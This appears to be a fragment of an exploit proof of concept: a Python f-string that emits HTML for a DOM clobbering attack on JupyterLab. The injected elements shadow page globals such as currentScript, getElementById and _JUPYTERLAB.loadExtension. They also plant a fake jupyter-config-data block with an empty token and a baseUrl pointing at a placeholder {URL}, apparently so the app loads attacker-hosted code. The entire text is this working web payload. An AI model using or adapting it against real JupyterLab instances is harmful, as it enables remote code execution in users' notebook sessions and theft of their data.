"""Names that hide the page's own variables."""

html(f"""<a id=jupyterapp name=jupyterapp href=x>x</a><form name=currentScript id=jupyter-config-data>{{"token":"","baseUrl":"{URL}"}}</form><img name=getElementById src='data:,'><a id=webpackChunk_jupyterlab_application_top><a id=_JUPYTERLAB name=loadExtension href='{URL}'>""")
